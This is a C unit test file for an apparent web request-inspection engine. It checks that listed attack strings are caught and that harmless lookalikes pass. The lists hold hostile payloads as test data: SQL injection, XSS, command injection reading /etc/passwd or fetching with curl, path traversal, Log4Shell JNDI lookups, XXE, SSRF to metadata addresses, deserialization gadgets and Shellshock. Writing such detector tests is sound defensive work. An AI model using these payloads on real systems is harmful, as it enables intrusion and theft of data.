/* The must-catch and must-not-flag lists of the detection guide, section 3, and more of ours: each
 * value through lanes and detectors, at the default threshold. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "base/arena.h"
#include "base/buf.h"
#include "engine/ngram.h"

enum { THRESHOLD = 30 };

static int score(struct mln_sv value, enum mln_location loc, struct mln_sv name, int protection)
{
    struct mln_arena a;
    struct mln_findings f;
    struct mln_views views;
    struct mln_budget budget = {.steps_left = 1 << 24};
    int best = 0;

    mln_arena_init(&a, 16 << 20);
    mln_findings_clear(&f);
    mln_value_inspect(&a, value, loc, name, &budget, &views, &f);
    mln_ngram_judge(&mln_ngram_default, &views, loc, &budget, &f);
    if (protection < 0)
        best = f.model.points;
    for (unsigned p = 0; p <= MLN_PROT_SHELLSHOCK; p++)
        if (protection < 0 || p == (unsigned)protection)
            best = MLN_MAX(best, mln_findings_points(&f, (enum mln_protection)p));
    mln_arena_done(&a);
    return best;
}

#define VALUES(name) static const char *const name[]

VALUES(sqli_attacks) = {
    "0); show warnings; set @q=0x73656c656374; prepare s from @q; execute s",
    "1;show warnings",
    "1 [ union select 1 ]",
    "1<@. union select 1,2",
    "or (1) or 1=1#",
    "'foo'('bar')",
    "1' or 1.e(1)=1.e(1)-- ",
    "1 or true",
    "ORDER BY SLEEP(5)",
    "1;(select 1 from pg_sleep(5))",
    "AND (SELECT * FROM (SELECT(SLEEP(5)))x)#",
    "' || pkg.proc('a') || '",
    "exec master..xp_cmdshell 'dir'",
    "1' and data @> '{\"a\":1}' --",
    "' or json_extract('{\"id\":14}','$.id')=14 -- ",
    "id,(select case when 1=1 then 1 else 2 end)",
    "{`f` 1} union select 1",
    "1' or '1'='1",
    "admin' --",
    "1 /*!50000union*/ /*!50000select*/ 1",
    "1/**/or/**/1=1",
    "1||utl_http.request('http://x/')",
    "-1 union all select null,null,version()--",
    "') or ('a'='a",
    "1; drop table users--",
    "1 waitfor delay '0:0:5'",
    "' having 1=1--",
    "1 and sleep(5)",
    "x' and 1=(select count(*) from tabname)-- ",
    "\" or \"a\"=\"a",
};
VALUES(sqli_lookalikes) = {
    "123--4567",
    "006--u-m4x",
    "10 - 20 -- good price",
    "<a href=\"/privacy-policy/\">privacy</a>",
    "2104 GRANT AVE #A",
    "cos(acct)",
    "5 > 3 and 3 < 5",
    "if (a<b && c>d) return",
    "x='1' and y='2'",
    "O'Brien",
    "left (1 mile)",
    "it's 5 o'clock and I'd like 2 or 3",
    "rock 'n' roll",
    "Select one or more options from the list",
    "drop me a line; table for two",
    "union square",
    "C++ or C# ?",
    "SELECT * FROM users",
    "Rock and roll or jazz",
    "the update set a record",
    "text/html;q=0.9,*/*;q=0.8",
};
VALUES(xss_attacks) = {
    "<img src=x onerror=alert(1)>",
    "<b onbeforedeactivate=alert(1)>",
    "<x onauxclick=alert(1)>",
    "<a href=\"jav\tascript:alert(1)\">",
    "{{constructor.constructor('alert(1)')()}}",
    "';alert(1)//",
    "eval('al'+'ert(1)')",
    "<x onpagereveal=alert(1)>",
    "<svg/onload=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "</script><script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "javascript:alert(1)",
    "<iframe srcdoc=\"<script>1</script>\">",
    "&#60;script&#62;alert(1)",
    "\\x3cscript\\x3ealert(1)",
    "+ADw-script+AD4-alert(1)",
};
VALUES(xss_lookalikes) = {
    "onedrive.aspx",
    "ontwerp=1",
    "<ontwerp>",
    "a < b and c > d",
    "i <3 u",
    "<p>hello <b>world</b></p><ul><li>x</li></ul>",
    "<div style=\"color:red\">x</div>",
    "<!DOCTYPE html>",
    "x onfocus=1",
    "List<String> names",
    "mail <me@example.org>",
};
VALUES(cmdi_attacks) = {
    ";id",
    "| cat /etc/passwd",
    "$(whoami)",
    "`id`",
    "127.0.0.1&&ping -n 10 127.0.0.1",
    "\nid",
    ";c''at /e?"
    "?/pa?swd",
    ";{cat,/etc/passwd}",
    ";cat${IFS}/etc/passwd",
    ";/??"
    "?/c?t /etc/passwd",
    "& p^ing -n 3 10.0.0.1",
    "|powershell -enc SQBFAFgA",
    "<(curl http://x/y)",
};
VALUES(cmdi_lookalikes) = {
    "AT&T",
    "R&D sort of thing",
    "Tom & find Jerry",
    "lunch; time to go",
    "cat food",
    "a | b",
    "$(document).ready(function(){})",
    "Ask who; which one?",
    "use `ls` to list",
    "C:\\tools\\more",
};
VALUES(traversal_attacks) = {
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%c0%ae%c0%ae%c0%afetc/passwd",
    "..%c1%1c..%c1%1cwindows/win.ini",
    "..%u2215..%u2215etc/passwd",
    "%f8%80%80%80%ae%f8%80%80%80%ae/etc",
    "....//....//etc/passwd",
    "0x2e0x2e0x2f0x2e0x2e0x2fetc/passwd",
    "..;/manager/html",
    "php://filter/convert.base64-encode/resource=index",
    "a.jsp::$DATA",
    "../../x%00.png",
};
VALUES(traversal_lookalikes) = {
    "v1..v2",
    "1..10",
    "foo...bar",
    "and... then/or",
    "a/b/../c",
    "https://x.org/a/../b",
    "C:\\Users\\me\\doc.txt",
    "read etc/passwd docs",
    "data:image/png;base64,AAAA",
    "wait.../...what",
    "s3/usr/local/bin",
    "../images/a.png",
};
VALUES(code_attacks) = {
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#a=@java.lang.Runtime@getRuntime())}",
    "${jndi:ldap://h/a}",
    "${${lower:j}ndi:${lower:l}dap://h/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://h/a}",
    "$%7Bjndi:dns://h%7D",
    "' || this.a=='b",
    "{\"$where\":\"sleep(5000)\"}",
    "{\"pw\":{\"$gt\":\"\"}}",
    "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
    "<!ENTITY % p SYSTEM \"http://h/d\">",
    "<xi:include href=\"http://h/x\">",
    "http://169.254.169.254/latest/meta-data/",
    "http://2130706433/",
    "http://[::ffff:127.0.0.1]/",
    "gopher://127.0.0.1:6379/_",
    "O:8:\"Evil\":1:{s:1:\"x\";}",
    "cos\nsystem\n(S'id'\ntR.",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader]",
    "system('id')",
    "<?php eval($_POST[1]);",
    "__import__('os').popen('id')",
    "{\"__proto__\":{\"isAdmin\":true}}",
    "*)(uid=*",
    "' or count(/*)=1 or 'a'='b",
    "<!--#exec cmd=\"id\" -->",
    "x\r\nSet-Cookie: a=b",
};
VALUES(code_lookalikes) = {
    "{{ user.name }}",
    "${HOME}/bin",
    "#{id}",
    "{\"a\":{\"b\":1}}",
    "{{x}}",
    "${date:yyyy}",
    "${env:HOME}",
    "jndi:ldap",
    "price $gt 5",
    "$schema",
    "<!DOCTYPE html>",
    "https://example.org/callback?x=1",
    "a:1:{i:0;s:1:\"x\";}",
    "!!str",
    "the system (see below)",
    "exec (ve) summary",
    "eval",
    "(see 3)(4)",
    "<!-- a comment -->",
};
VALUES(shellshock_attacks) = {"() { :;}; /bin/id", "() { _; } >_[$($())] { id; }"};
VALUES(shellshock_lookalikes) = {"function () { }", "x = () => {}"};

static void check_attacks(const char *const *v, size_t n, int protection)
{
    for (size_t i = 0; i < n; i++)
        if (score(mln_sv_str(v[i]), MLN_LOC_QUERY, MLN_SV("q"), protection) < THRESHOLD)
            fail_msg("not caught: %s", v[i]);
}

static void check_lookalikes(const char *const *v, size_t n)
{
    for (size_t i = 0; i < n; i++)
        if (score(mln_sv_str(v[i]), MLN_LOC_QUERY, MLN_SV("q"), -1) >= THRESHOLD)
            fail_msg("a false alarm: %s", v[i]);
}

#define CASES(name, protection)                                                                    \
    static void test_##name##_attacks_are_caught(void **state)                                     \
    {                                                                                              \
        (void)state;                                                                               \
        check_attacks(name##_attacks, MLN_ARRAY_LEN(name##_attacks), protection);                  \
    }                                                                                              \
    static void test_##name##_lookalikes_pass(void **state)                                        \
    {                                                                                              \
        (void)state;                                                                               \
        check_lookalikes(name##_lookalikes, MLN_ARRAY_LEN(name##_lookalikes));                     \
    }
CASES(sqli, -1)
CASES(xss, -1)
CASES(cmdi, -1)
CASES(traversal, -1)
CASES(code, -1)
CASES(shellshock, MLN_PROT_SHELLSHOCK)

static void test_names_carry_operators_and_prototypes(void **state)
{
    (void)state;
    assert_true(score(MLN_SV("x"), MLN_LOC_QUERY, MLN_SV("user[$ne]"), MLN_PROT_CODE) >= THRESHOLD);
    assert_true(score(MLN_SV("1"), MLN_LOC_QUERY, MLN_SV("a[constructor][prototype][x]"),
                      MLN_PROT_CODE) >= THRESHOLD);
    assert_true(score(MLN_SV("1"), MLN_LOC_QUERY, MLN_SV("price[min]"), -1) < THRESHOLD);
    assert_true(score(MLN_SV("3"), MLN_LOC_QUERY, MLN_SV("filter[$gt]"), MLN_PROT_CODE) >=
                THRESHOLD);
    assert_true(score(MLN_SV("3"), MLN_LOC_QUERY, MLN_SV("filters[$where]"), MLN_PROT_CODE) >=
                THRESHOLD);
    assert_true(score(MLN_SV("3"), MLN_LOC_QUERY, MLN_SV("filters[price][$gt]"), -1) < THRESHOLD);
    assert_true(score(MLN_SV("x"), MLN_LOC_QUERY, MLN_SV("filters[$or][0][name][$eq]"), -1) <
                THRESHOLD);
    assert_true(score(MLN_SV("3"), MLN_LOC_JSON, MLN_SV("/selector/price/$gt"), -1) < THRESHOLD);
    assert_true(score(MLN_SV("2"), MLN_LOC_JSON, MLN_SV("/password/$type"), MLN_PROT_CODE) >=
                THRESHOLD);
    assert_true(score(MLN_SV("app.feed.post"), MLN_LOC_JSON, MLN_SV("/record/$type"), -1) <
                THRESHOLD);
    assert_true(score(MLN_SV("a"), MLN_LOC_QUERY, MLN_SV("user__password__startswith"),
                      MLN_PROT_CODE) >= THRESHOLD);
    assert_true(score(MLN_SV("a"), MLN_LOC_QUERY, MLN_SV("q[reset_password_token_start]"),
                      MLN_PROT_CODE) >= THRESHOLD);
    assert_true(score(MLN_SV("a"), MLN_LOC_QUERY, MLN_SV("name__icontains"), -1) < THRESHOLD);
    assert_true(score(MLN_SV("a"), MLN_LOC_QUERY, MLN_SV("user[password]"), -1) < THRESHOLD);
}

static void test_where_a_value_stands_decides(void **state)
{
    static const struct {
        enum mln_location loc;
        const char *name, *value;
        bool attack;
    } rows[] = {
        {MLN_LOC_JSON, "/a/py~1object", "os.system", true},
        {MLN_LOC_JSON, "/0/py~1reduce/0/py~1type", "posix.system", true},
        {MLN_LOC_JSON, "/^o", "Gem::Installer", true},
        {MLN_LOC_XML, "/java.util.TreeSet/@serialization", "custom", true},
        {MLN_LOC_XML, "/ObjectDataProvider/@MethodName", "Start", true},
        {MLN_LOC_JSON, "/handle/as x/__construct()", "1", true},
        {MLN_LOC_FORM, "_method", "__construct", true},
        {MLN_LOC_FORM, "__VIEWSTATE", "/wEyhAYAAQAAAP////8BAAAA", true},
        {MLN_LOC_JSON, "/pipeline/0/$match/$where", "1", true},
        {MLN_LOC_JSON, "/pipeline/0/$match/total/$gt", "5", false},
        {MLN_LOC_FORM, "_method", "patch", false},
        {MLN_LOC_FORM, "__VIEWSTATE", "/wEPDwUKMTY1NDU2MTA1MmRk", false},
        {MLN_LOC_JSON, "/py/object", "a rubber snake", false},
        {MLN_LOC_JSON, "/o", "Gem::Installer", false},
        {MLN_LOC_QUERY, "q", "unix:AAAAAAAAAAAA|http://example.org/", true},
        {MLN_LOC_QUERY, "q", "constructor.prototype.polluted", true},
        {MLN_LOC_JSON, "/map", "function(){emit(this.name,this.password)}", true},
        {MLN_LOC_QUERY, "q", "'or'1'", true},
        {MLN_LOC_QUERY, "q", "x'div'1", true},
        {MLN_LOC_COOKIE, "q", "12'&'3'", true},
        {MLN_LOC_QUERY, "q", "the 'or'1' of it", false},
        {MLN_LOC_QUERY, "q", "'or's", false},
        {MLN_LOC_QUERY, "q", "5'-6'2", false},
        {MLN_LOC_QUERY, "q", "--checkpoint=1", true},
        {MLN_LOC_QUERY, "q", "--use-compress-program=id", true},
        {MLN_LOC_QUERY, "q", "--exec=/usr/bin/x", true},
        {MLN_LOC_JSON, "/args/0", "--exec=/usr/bin/x", false},
        {MLN_LOC_QUERY, "q", "DDE(\"cmd\";\"/C calc\";\"x\")", true},
        {MLN_LOC_QUERY, "q", "DDE(\"a\";\"b\")", false},
        {MLN_LOC_QUERY, "q", "(sy.(st).em)(whoami);", true},
        {MLN_LOC_QUERY, "q", "(a.b.c)(d)", false},
        {MLN_LOC_JSON, "/log/file/path", "/var/log/syslog", false},
        {MLN_LOC_JSON, "/log/file/path", "/etc/passwd", true},
        {MLN_LOC_JSON, "/file/path", "/var/log/syslog", true},
        {MLN_LOC_PATH, "", "/a\r\nheader:x", true},
    };

    (void)state;
    for (size_t i = 0; i < MLN_ARRAY_LEN(rows); i++)
        if ((score(mln_sv_str(rows[i].value), rows[i].loc, mln_sv_str(rows[i].name), -1) >=
             THRESHOLD) != rows[i].attack)
            fail_msg("%s: %s", rows[i].name, rows[i].value);
}

static void test_names_of_java_classes_are_seen(void **state)
{
    static const char *const classes[] = {"java.lang.Runtime",
                                          "/java.io.ObjectOutputStream",
                                          "/xml/item/@java.lang.ProcessBuilder",
                                          "x.y.invokertransformer",
                                          "class.module.classLoader.resources.context.parent",
                                          "cnVudGltZQ",
                                          "HByb2Nlc3NidWlsZGVy",
                                          "rO0ABQ"};
    static const char *const settings[] = {"java.io.tmpdir",     "java.version",
                                           "com.android.chrome", "spring.jpa.show-sql",
                                           "app.runtime",        "logging.level.org.hibernate.SQL",
                                           "productDetailPage",  "/data/java/class"};

    (void)state;
    for (size_t i = 0; i < MLN_ARRAY_LEN(classes); i++)
        assert_true(score(MLN_SV("1"), MLN_LOC_JSON, mln_sv_str(classes[i]), MLN_PROT_CODE) >=
                    THRESHOLD);
    for (size_t i = 0; i < MLN_ARRAY_LEN(settings); i++)
        assert_true(score(MLN_SV("1"), MLN_LOC_JSON, mln_sv_str(settings[i]), -1) < THRESHOLD);
}

static void test_uploads_named_in_headers_are_no_scripts(void **state)
{
    static const char *const scripts[] = {"a.php5...", "x/y.jspx",
                                          "C:\\tmp\\sess_0123456789abcdefghij", "a.phtml "};
    static const char *const files[] = {"a.jpg", "php.txt", "report.2024.pdf", "sess_1"};

    (void)state;
    for (size_t i = 0; i < MLN_ARRAY_LEN(scripts); i++) {
        assert_true(score(mln_sv_str(scripts[i]), MLN_LOC_HEADER, MLN_SV("X-File-Name"),
                          MLN_PROT_CODE) >= THRESHOLD);
        assert_true(score(mln_sv_str(scripts[i]), MLN_LOC_HEADER, MLN_SV("X-Note"), -1) <
                    THRESHOLD);
    }
    for (size_t i = 0; i < MLN_ARRAY_LEN(files); i++)
        assert_true(score(mln_sv_str(files[i]), MLN_LOC_HEADER, MLN_SV("X-File-Name"), -1) <
                    THRESHOLD);
}

static void test_addresses_to_fetch_are_no_inner_ones(void **state)
{
    static const char *const attacks[] = {
        "localhost/",           "LOCALHOST:80",  "http://localhost/admin",
        "http:localhost",       "127.0.0.1",     "169.254.169.254",
        "host.docker.internal", "ip6-loopback/", "//127.0.0.1/",
        "http://127.0.0.1/x?y", "127.1",         "0177.0.0.1/x",
        "0x7f.0.0.1:8080/",
    };
    static const char *const names[] = {"url", "target", "/data/image_url", "hook[url]"};
    static const char *const harmless[] = {"http://localhost:3000/callback", "localhost/app"};
    static const char *const native[] = {"http://127.0.0.1:51004/", "http://[::1]:5000/cb"};

    (void)state;
    for (size_t i = 0; i < MLN_ARRAY_LEN(attacks); i++)
        for (size_t k = 0; k < MLN_ARRAY_LEN(names); k++)
            assert_true(score(mln_sv_str(attacks[i]), MLN_LOC_QUERY, mln_sv_str(names[k]),
                              MLN_PROT_CODE) >= THRESHOLD);
    for (size_t i = 0; i < MLN_ARRAY_LEN(harmless); i++) {
        assert_true(score(mln_sv_str(harmless[i]), MLN_LOC_QUERY, MLN_SV("redirect_uri"), -1) <
                    THRESHOLD);
        assert_true(score(mln_sv_str(harmless[i]), MLN_LOC_JSON, MLN_SV("/csp-report/document-uri"),
                          -1) < THRESHOLD);
    }
    for (size_t i = 0; i < MLN_ARRAY_LEN(native); i++)
        assert_true(score(mln_sv_str(native[i]), MLN_LOC_QUERY, MLN_SV("redirect_uri"), -1) <
                    THRESHOLD);
    assert_true(score(MLN_SV("http://2130706433/"), MLN_LOC_QUERY, MLN_SV("redirect_uri"), -1) >=
                THRESHOLD);
    assert_true(score(MLN_SV("http://localhost/a.png"), MLN_LOC_QUERY, MLN_SV("src"), -1) >=
                THRESHOLD);
    assert_true(score(MLN_SV("http://localhost/a.png"), MLN_LOC_JSON, MLN_SV("/src"), -1) <
                THRESHOLD);
    assert_true(score(MLN_SV("0.35"), MLN_LOC_QUERY, MLN_SV("icon"), -1) < THRESHOLD);
    assert_true(score(MLN_SV("10.5"), MLN_LOC_QUERY, MLN_SV("target"), -1) < THRESHOLD);
    assert_true(score(MLN_SV("10.15.7"), MLN_LOC_QUERY, MLN_SV("target"), -1) < THRESHOLD);
    assert_true(score(MLN_SV("127.0.1"), MLN_LOC_QUERY, MLN_SV("target"), -1) >= THRESHOLD);
    assert_true(score(MLN_SV("0.5"), MLN_LOC_JSON, MLN_SV("/goals/target"), -1) < THRESHOLD);
    assert_true(score(MLN_SV("0.35"), MLN_LOC_QUERY, MLN_SV("load"), -1) < THRESHOLD);
    static const char *const hosts[] = {"127.2", "127.255.1", "169.254.43518", "0.0"};
    for (size_t i = 0; i < MLN_ARRAY_LEN(hosts); i++)
        assert_true(score(mln_sv_str(hosts[i]), MLN_LOC_QUERY, MLN_SV("host"), -1) >= THRESHOLD);
    assert_true(score(MLN_SV("18"), MLN_LOC_QUERY, MLN_SV("site"), -1) < THRESHOLD);
    assert_true(score(MLN_SV("2135551212"), MLN_LOC_QUERY, MLN_SV("dest"), -1) < THRESHOLD);
    assert_true(score(MLN_SV("http://127.0.0.1:9/"), MLN_LOC_HEADER, MLN_SV("Referer"), -1) <
                THRESHOLD);
}

static void test_what_servers_tell_each_other_is_no_clients(void **state)
{
    static const struct {
        enum mln_location loc;
        const char *name, *value;
        bool attack;
    } rows[] = {
        {MLN_LOC_COOKIE, "X-BEResource", "localhost~1942062522", true},
        {MLN_LOC_HEADER, "X-AnonResource-Backend", "localhost/x.flt?~3", true},
        {MLN_LOC_COOKIE, "X-BEResource", "none", false},
        {MLN_LOC_COOKIE, "home", "localhost~19", false},
        {MLN_LOC_HEADER, "x-middleware-subrequest", "src/m:src/m:src/m:src/m:src/m", true},
        {MLN_LOC_HEADER, "x-middleware-subrequest", "src/m:src/m", false},
        {MLN_LOC_HEADER, "x-trace", "src/m:src/m:src/m:src/m:src/m", false},
        {MLN_LOC_QUERY_NAME, "", "@shop.example/mapi/nspi/?", true},
        {MLN_LOC_QUERY_NAME, "", "a@shop.example/powershell/", true},
        {MLN_LOC_QUERY_NAME, "", "a@shop.example", false},
        {MLN_LOC_QUERY_NAME, "", "mapi/a@shop.example", false},
        {MLN_LOC_QUERY_NAME, "", "@scope/package", false},
    };

    (void)state;
    for (size_t i = 0; i < MLN_ARRAY_LEN(rows); i++)
        if ((score(mln_sv_str(rows[i].value), rows[i].loc, mln_sv_str(rows[i].name), -1) >=
             THRESHOLD) != rows[i].attack)
            fail_msg("%s: %s", rows[i].name, rows[i].value);
}

static void test_remote_files_are_no_pages(void **state)
{
    (void)state;
    assert_true(score(MLN_SV("https://pastebin.com/raw/aB3"), MLN_LOC_QUERY, MLN_SV("page"),
                      MLN_PROT_TRAVERSAL) >= THRESHOLD);
    assert_true(score(MLN_SV("https://pastebin.com/aB3"), MLN_LOC_QUERY, MLN_SV("page"), -1) <
                THRESHOLD);
    assert_true(score(MLN_SV("https://pastebin.com/raw/aB3"), MLN_LOC_QUERY, MLN_SV("link"), -1) <
                THRESHOLD);
}

/* Every detector ends within its budget, whatever it reads, and says so when it does not. */
static void test_budget_holds_on_repetitive_input(void **state)
{
    static const char *const units[] = {
        "'",   "(",  "<",     "a'", "or 1=", "../",           "${", "{{", ";id", "<a ", "/*",
        "%25", "x=", "\\x3c", "`",  "&#60",  "union select ", "[",  "1,"};

    (void)state;
    for (size_t i = 0; i < MLN_ARRAY_LEN(units); i++) {
        struct mln_buf b = {0};
        struct mln_arena a;
        struct mln_findings f;
        struct mln_views views;
        struct mln_budget budget = {.steps_left = UINT64_C(64) * 65536 * MLN_VIEWS_MAX * 4};
        while (b.len < 65536)
            mln_buf_add_str(&b, units[i]);
        mln_arena_init(&a, 16 << 20);
        mln_findings_clear(&f);
        mln_value_inspect(&a, mln_buf_sv(&b), MLN_LOC_QUERY, MLN_SV("q"), &budget, &views, &f);
        assert_false(budget.exhausted);
        mln_arena_done(&a);
        mln_buf_done(&b);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_sqli_attacks_are_caught),
        cmocka_unit_test(test_sqli_lookalikes_pass),
        cmocka_unit_test(test_xss_attacks_are_caught),
        cmocka_unit_test(test_xss_lookalikes_pass),
        cmocka_unit_test(test_cmdi_attacks_are_caught),
        cmocka_unit_test(test_cmdi_lookalikes_pass),
        cmocka_unit_test(test_traversal_attacks_are_caught),
        cmocka_unit_test(test_traversal_lookalikes_pass),
        cmocka_unit_test(test_code_attacks_are_caught),
        cmocka_unit_test(test_code_lookalikes_pass),
        cmocka_unit_test(test_shellshock_attacks_are_caught),
        cmocka_unit_test(test_shellshock_lookalikes_pass),
        cmocka_unit_test(test_names_carry_operators_and_prototypes),
        cmocka_unit_test(test_where_a_value_stands_decides),
        cmocka_unit_test(test_names_of_java_classes_are_seen),
        cmocka_unit_test(test_uploads_named_in_headers_are_no_scripts),
        cmocka_unit_test(test_addresses_to_fetch_are_no_inner_ones),
        cmocka_unit_test(test_what_servers_tell_each_other_is_no_clients),
        cmocka_unit_test(test_remote_files_are_no_pages),
        cmocka_unit_test(test_budget_holds_on_repetitive_input),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
